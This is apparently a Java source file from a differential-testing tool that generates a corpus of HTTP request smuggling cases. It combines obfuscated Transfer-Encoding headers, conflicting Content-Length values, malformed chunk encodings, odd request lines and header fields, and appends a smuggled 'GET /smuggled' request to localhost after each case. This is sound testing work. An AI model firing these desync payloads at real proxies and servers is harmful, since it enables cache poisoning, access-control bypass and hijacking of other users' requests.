package io.highgate.drills.differential;

import java.util.ArrayList;
import java.util.List;

/** Requests with which proxies and origins have been set at odds, each with one smuggled behind it. Stateless. */
final class Classics {

    private static final String SMUGGLED = "GET /smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n";

    private static final String[] CODINGS = {
        "Transfer-Encoding: chunked",
        "transfer-encoding: Chunked",
        "Transfer-Encoding : chunked",
        "Transfer-Encoding\t: chunked",
        "Transfer-Encoding:chunked",
        "Transfer-Encoding:\tchunked",
        "Transfer-Encoding: \u000bchunked",
        "Transfer-Encoding: xchunked",
        "Transfer-Encoding: chunkedx",
        "Transfer-Encoding: chunked, identity",
        "Transfer-Encoding: identity, chunked",
        "Transfer-Encoding: chunked, chunked",
        "Transfer-Encoding: chunked;q=1",
        "Transfer-Encoding: \"chunked\"",
        "Transfer-Encoding: 'chunked'",
        "Transfer-Encoding:\r\n chunked",
        "Transfer-Encoding: x\r\n\tchunked",
        " Transfer-Encoding: chunked",
        "X: y\nTransfer-Encoding: chunked",
        "X: y\rTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\r",
        "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
        "Transfer_Encoding: chunked",
        "Transfer-Encoding\0: chunked",
        "Transfer-Encoding: chunked\0",
        "\0Transfer-Encoding: chunked",
        "Transfer-Encoding: \u00a0chunked",
        "Transf\u00e9r-Encoding: chunked",
        "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
        "Connection: Content-Length\r\nX: y",
    };

    private static final String[] LENGTHS = {
        "",
        "Content-Length: 5\r\n",
        "Content-Length: 0\r\n",
        "Content-Length: +5\r\n",
        "Content-Length: 5, 5\r\n",
        "Content-Length: 5\r\nContent-Length: 5\r\n",
        "Content-Length: 5\r\nContent-Length: 0\r\n",
        "Content-Length : 5\r\n",
        "Content-Length: 05\r\n",
        "Content-Length: 0x5\r\n",
        "Content-Length: 5 \r\n",
        "Content-Length:\r\n 5\r\n",
        "Content_Length: 5\r\n",
        "Content-Length: 4294967301\r\n",
        "Content-Length: 18446744073709551621\r\n",
    };

    private static final String[] CHUNKS = {
        "5\r\nhello\r\n0\r\n\r\n",
        "5;a=b\r\nhello\r\n0;c\r\n\r\n",
        "5;a=\"\r\nhello\r\n0\r\n\r\n",
        "5;a=\"b;c\"\r\nhello\r\n0\r\n\r\n",
        "5;\nhello\r\n0\r\n\r\n",
        "5\nhello\r\n0\r\n\r\n",
        "5\r\nhello\n0\r\n\r\n",
        "5\r\nhelloXX0\r\n\r\n",
        "5 \r\nhello\r\n0 \r\n\r\n",
        "5 x\r\nhello\r\n0\r\n\r\n",
        "0x5\r\nhello\r\n0\r\n\r\n",
        "+5\r\nhello\r\n0\r\n\r\n",
        "00005\r\nhello\r\n0000\r\n\r\n",
        "100000005\r\nhello\r\n0\r\n\r\n",
        "10000000000000005\r\nhello\r\n0\r\n\r\n",
        "5\r\nhello\r\n0\r\nX: y\r\n\r\n",
        "5\r\nhello\r\n0\r\nContent-Length: 9\r\nTransfer-Encoding: chunked\r\n\r\n",
        "5\r\nhello\r\n0\r\nX : y\r\n\r\n",
        "5\r\nhello\r\n0\r\n\n",
        "5\r\nhello\r\n0\n\r\n",
        "5\r\nhello\r\n-0\r\n\r\n",
        "5\r\nhello\r\n\r\n0\r\n\r\n",
    };

    private static final String[] LINES = {
        "GET /a HTTP/1.1",
        "GET http://localhost/a HTTP/1.1",
        "GET http://localhost HTTP/1.1",
        "GET http://localhost?a=b HTTP/1.1",
        "GET http://other@localhost/ HTTP/1.1",
        "GET /a HTTP/1.0",
        "GET /a",
        "GET /a HTTP/1.2",
        "GET /a HTTP/2.0",
        "GET  /a HTTP/1.1",
        "GET /a  HTTP/1.1",
        "GET /a\tHTTP/1.1",
        "GET /a HTTP/1.1 ",
        "GET /a b HTTP/1.1",
        "GET /a%20b%00c HTTP/1.1",
        "GET /a/../b//c/./d HTTP/1.1",
        "GET /a%2fb%2e%2e HTTP/1.1",
        "GET /a|b^c`d{e}f?g|h^i`j{k}l\\m HTTP/1.1",
        "GET http://localhost/a|b?c|d HTTP/1.1",
        "GET http://localhost?a|b HTTP/1.1",
        "GET /|/../b|//c HTTP/1.1",
        "GET /a\\..\\b HTTP/1.1",
        "GET /a?b\\c HTTP/1.1",
        "GET /a?b\"c HTTP/1.1",
        "GET /a<b> HTTP/1.1",
        "GET /a|b#c HTTP/1.1",
        "GET /a;b=c?d=%zz HTTP/1.1",
        "GET /?a=http://b/?c HTTP/1.1",
        "GET * HTTP/1.1",
        "OPTIONS * HTTP/1.1",
        "OPTIONS http://localhost HTTP/1.1",
        "CONNECT localhost:80 HTTP/1.1",
        "PRI * HTTP/2.0",
        "get /a HTTP/1.1",
        "\r\n\r\nGET /a HTTP/1.1",
        "\nGET /a HTTP/1.1",
        "\0GET /a HTTP/1.1",
    };

    private static final String[] FIELDS = {
        "Host: localhost\r\nHost: other",
        "Host: localhost, other",
        "Host: localhost:80:90",
        "Host: [::1]:80",
        "Host: local..host",
        "Host:",
        "X: y",
        "Host : localhost",
        "Host: localhost\r\nExpect: 100-continue",
        "Host: localhost\r\nExpect: 100-continue, x",
        "Host: localhost\r\nExpect: x",
        "Host: localhost\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: x",
        "Host: localhost\r\nUpgrade: other\r\nConnection: Upgrade",
        "Host: localhost\r\nUpgrade: websocket",
        "Host: localhost\r\nConnection: close, Host",
        "Host: localhost\r\nConnection: keep-alive, X-A\r\nX-A: b",
        "Host: localhost\r\nX:\r\nY: \u00e9\u00ff",
        "Host: localhost\r\nX: " + "y".repeat(20_000),
    };

    private Classics() {}

    /** All of them. */
    static List<String> all() {
        List<String> all = new ArrayList<>();
        for (String coding : CODINGS) {
            all.add(post(coding + "\r\n", CHUNKS[0]));
            all.add(post("Content-Length: 5\r\n" + coding + "\r\n", CHUNKS[0]));
            all.add(post(coding + "\r\nContent-Length: 4\r\n", "2c\r\n" + SMUGGLED + "\r\n0\r\n\r\n"));
        }
        for (String length : LENGTHS) {
            all.add(post(length, "hello"));
            all.add(post(length + "Transfer-Encoding: chunked\r\n", "0\r\n\r\nhello"));
        }
        for (String chunks : CHUNKS) {
            all.add(post("Transfer-Encoding: chunked\r\n", chunks));
        }
        for (String line : LINES) {
            all.add(line + "\r\nHost: localhost\r\n\r\n" + SMUGGLED);
        }
        for (String field : FIELDS) {
            all.add("GET /a HTTP/1.1\r\n" + field + "\r\n\r\n" + SMUGGLED);
            all.add("PUT /a HTTP/1.1\r\n" + field + "\r\nContent-Length: 5\r\n\r\nhello" + SMUGGLED);
        }
        return all;
    }

    private static String post(String fields, String body) {
        return "POST /a HTTP/1.1\r\nHost: localhost\r\n" + fields + "\r\n" + body + SMUGGLED;
    }
}
